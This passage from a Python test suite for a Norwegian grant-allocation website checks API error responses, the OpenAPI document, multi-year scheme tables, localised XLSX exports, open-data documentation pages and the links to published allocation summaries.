                "/api/v1/rounds/abc/summary", "/api/v1/nothing-here"):
        response = client.get(url)
        assert response.status_code == 404, url
        assert response.mimetype == "application/json", url
        assert response.get_json()["error"] == 404, url


def test_the_openapi_document_describes_the_api(client):
    response = client.get("/api/v1/openapi.json")
    assert response.status_code == 200 and response.mimetype == "application/json"
    document = response.get_json()
    assert document["openapi"].startswith("3.")
    assert set(document["paths"]) == {"/api/v1/rounds", "/api/v1/rounds/{round_id}/summary"}
    summary = document["paths"]["/api/v1/rounds/{round_id}/summary"]["get"]
    assert set(summary["responses"]) == {"200", "404"}
    schema = summary["responses"]["200"]["content"]["application/json"]["schema"]["properties"]
    assert set(schema["counts"]["required"]) == {"received", "granted", "rejected", "dismissed", "withdrawn"}
    assert schema["amounts"]["properties"]["granted"]["type"] == "integer"


# --- 4. over the years ---------------------------------------------------------------------------------------

def test_the_schemes_page_shows_its_rounds_side_by_side(client, people, decided):
    round_2025, _apps = decided
    opens = now_utc() - timedelta(days=430)
    round_2024 = closed_round(scheme=round_2025.scheme, year=2024, slug="runde-2024", budget=800_000,
                              opens_at=opens, deadline_date=oslo_date(opens) + timedelta(days=30),
                              title_nb="Mangfold og mot rasisme 2024")
    grant(round_2024, people, 400_000, number="4601")
    grant(round_2024, people, 300_000, number="5001")
    reject(round_2024, people, number="1103")
    release(round_2024, people)
    not_yet = closed_round(scheme=round_2025.scheme, year=2026, slug="runde-2026")
    other_scheme = closed_round(year=2023, slug="annen-ordning")
    grant(other_scheme, people, 50_000)
    release(other_scheme, people)
    for round_ in (round_2025, round_2024, other_scheme):
        publish(round_, people)

    response = client.get(f"/ordningen/{round_2025.scheme.slug}")  # no login
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    rows = {row[0]: row[1:] for row in table_after(page, "Utlysningene gjennom årene")[1:]}
    assert rows == {
        "2024": ["3", "2", "1", "0", "0", kr(800_000), kr(700_000)],
        "2025": ["6", "2", "2", "2", "1", kr(1_000_000), kr(500_000)],
    }
    assert page.index(f'href="/tildelinger/{round_2024.id}"') < page.index(f'href="/tildelinger/{round_2025.id}"')
    assert f"/tildelinger/{not_yet.id}" not in page and f"/tildelinger/{other_scheme.id}" not in page
    assert client.get("/ordningen/finnes-ikke").status_code == 404


# --- open data people can use: the XLSX in the reader's language, the data page, the links to the summaries ---------

XLSX_TITLES = {
    "nb": ["Referanse", "Kommunenummer", "Kommune", "Fylke", "Samarbeidskommuner", "Prosjekttittel", "Sammendrag",
           "Innvilget beløp", "Videreføring", "Utbetalt", "Tilbakebetalt", "Rapportstatus", "Organisasjonsnummer"],
    "nn": ["Referanse", "Kommunenummer", "Kommune", "Fylke", "Samarbeidskommunar", "Prosjekttittel", "Samandrag",
           "Innvilga beløp", "Vidareføring", "Utbetalt", "Tilbakebetalt", "Rapportstatus", "Organisasjonsnummer"],
    "en": ["Reference", "Municipality number", "Municipality", "County", "Partners", "Project title", "Summary",
           "Amount granted", "Continuation", "Paid", "Repaid", "Report status", "Organisation number"],
}
TOTAL = {"nb": "Totalt", "nn": "Totalt", "en": "Total"}
SHEET = {"nb": "Tildelinger", "nn": "Tildelingar", "en": "Grants"}


@pytest.mark.parametrize("lang", ["nb", "nn", "en"])
def test_the_xlsx_speaks_the_language_of_the_page_its_link_was_on(client, people, decided, lang):
    round_, _apps = decided
    publish(round_, people)
    if lang != "nb":
        switch_language(client, lang)
    page = client.get(f"/tildelinger/{round_.id}").get_data(as_text=True)
    link = re.search(r'href="([^"]*tildelinger\.xlsx[^"]*)"', page).group(1).replace("&amp;", "&")
    assert link.endswith(f"?lang={lang}")
    fresh = client.application.test_client()  # another visitor, in bokmål, following the same link
    sheet = load_workbook(io.BytesIO(fresh.get(link).data)).active
    assert [c.value for c in sheet[1]] == XLSX_TITLES[lang]
    assert sheet.title == SHEET[lang]
    assert sheet.freeze_panes == "A2"
    assert [sheet.cell(row=sheet.max_row, column=c).value for c in (1, 8)] == [TOTAL[lang], 500_000]
    amount = sheet.cell(row=2, column=8)
    assert isinstance(amount.value, int) and amount.number_format == "# ##0"
    # Without a language in the link the visitor's own is used; a language the service does not have is ignored.
    own = load_workbook(io.BytesIO(client.get(f"/tildelinger/{round_.id}/v/1/tildelinger.xlsx?lang=de").data))
    assert [c.value for c in own.active[1]] == XLSX_TITLES[lang]


def _json_keys(value, prefix=""):
    """Every key path in a parsed JSON value: nested keys joined by ".", list entries as "[]"."""
    if isinstance(value, dict):
        found = set()
        for key, inner in value.items():
            path = f"{prefix}.{key}" if prefix else key
            found |= {path} | _json_keys(inner, path)
        return found
    if isinstance(value, list):
        return set().union(*(_json_keys(item, prefix + "[]") for item in value)) if value else set()
    return set()


def test_every_key_the_files_have_is_on_the_data_page_and_nothing_else(client, people, decided):
    round_, _apps = decided
    publish(round_, people)
    text = download(client, round_, 1, "csv").get_data(as_text=True).lstrip("\ufeff")
    csv_header = next(csv.reader(io.StringIO(text), delimiter=";"))
    data = json.loads(download(client, round_, 1, "json").data)

    assert csv_header == [key.field for key in COLUMNS]
    assert _json_keys(data) == {key.name for key in KEYS}
    assert {key.name for key in COLUMNS} <= {f"grants[].{name}" for name in csv_header}

    page = client.get("/tildelinger/data").get_data(as_text=True)
    documented = set(re.findall(r"<code>([\w.\[\]]+)</code>", page))
    assert {f"grants[].{name}" for name in csv_header} | _json_keys(data) <= documented
    columns = table_after(page, "Kolonnene i CSV- og XLSX-filene, i rekkefølge")
    assert [row[0].split("Kolonne")[0].strip() for row in columns[1:]] == [f"grants[].{n}" for n in csv_header]
    keys = table_after(page, "Nøklene i JSON-filen")
    assert {row[0].split("Kolonne")[0].strip() for row in keys[1:]} == _json_keys(data)
    # Types, units and the values a key may take are given.
    amount = next(row for row in keys if row[0].startswith("grants[].amount"))
    assert amount[2:4] == ["heltall", "hele norske kroner (NOK), uten desimaler"]
    status = next(row for row in keys if row[0].startswith("grants[].report_status"))
    for value in ("awaiting_answer", "declined", "due", "overdue", "received", "returned", "approved"):
        assert f"{value}:" in status[4]
    assert "Europe/Oslo" in next(row for row in keys if row[0] == "published_at")[3]


@pytest.mark.parametrize("lang, heading, word", [
    ("nb", "Om de åpne dataene", "Betydning"), ("nn", "Om dei opne dataa", "Tyding"),
    ("en", "About the open data", "Meaning")])
def test_the_data_page_in_each_language_is_linked_from_the_summary(client, people, decided, lang, heading, word):
    round_, _apps = decided
    publish(round_, people)
    if lang != "nb":
        switch_language(client, lang)
    summary = client.get(f"/tildelinger/{round_.id}").get_data(as_text=True)
    assert 'href="/tildelinger/data"' in summary
    response = client.get("/tildelinger/data")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert f'lang="{lang}"' in page and heading in page and f">{word}</th>" in page
    assert 'class="table-scroll" tabindex="0" role="region"' in page


@pytest.mark.parametrize("lang, index_title, link_words", [
    ("nb", "Tildelinger", "Tildelingsoversikt: hvem fikk hva"),
    ("nn", "Tildelingar", "Tildelingsoversikt: kven fekk kva"),
    ("en", "Allocations", "Allocation summary: who got what")])
def test_the_published_summaries_are_linked_from_the_front_page_the_round_and_the_index(
        client, people, decided, lang, index_title, link_words):
    round_, _apps = decided
    other = closed_round(year=2024, title_nb="Runde 2024", title_nn="Runde 2024 nn", title_en="Round 2024")
    grant(other, people, 100_000, number="0301")
    release(other, people)
    unpublished = closed_round(year=2024, title_nb="Ikke publisert", title_nn="Ikkje publisert",
                               title_en="Not published")
    publish(round_, people)
    publish(other, people)
    if lang != "nb":
        switch_language(client, lang)
    summary_link = f'href="/tildelinger/{round_.id}"'

    front = client.get("/").get_data(as_text=True)
    assert summary_link in front and f'href="/tildelinger/{other.id}"' in front
    assert 'href="/tildelinger"' in front and link_words in front
    assert f'href="/tildelinger/{unpublished.id}"' not in front

    round_page = client.get(f"/utlysninger/{round_.id}").get_data(as_text=True)
    assert summary_link in round_page and link_words in round_page
    assert "/tildelinger/" not in client.get(f"/utlysninger/{unpublished.id}").get_data(as_text=True)

    index = client.get("/tildelinger")
    assert index.status_code == 200
    page = index.get_data(as_text=True)
    assert f"<h1 class=\"ds-heading\" data-size=\"lg\">{index_title}</h1>" in page and f'lang="{lang}"' in page
    title = {"nb": round_.title_nb, "nn": round_.title_nn, "en": round_.title_en}[lang]
    years = re.findall(r'<h2 class="ds-heading" data-size="md" id="year-(\d+)">', page)
    assert years == [str(round_.year), "2024"]  # newest first
    assert title in page.split('id="year-2024"')[0] and summary_link in page
    assert {"nb": "Runde 2024", "nn": "Runde 2024 nn", "en": "Round 2024"}[lang] in page.split('id="year-2024"')[1]
    assert "Ikke publisert" not in page and "Not published" not in page

    # An unpublished summary leaves the index and the front page.
    summary = publishing.latest(other.id)
    publishing.unpublish(summary, people["admin"], "Feil tall")
    db.session.commit()
    assert f'href="/tildelinger/{other.id}"' not in client.get("/tildelinger").get_data(as_text=True)
    assert f'href="/tildelinger/{other.id}"' not in client.get("/").get_data(as_text=True)
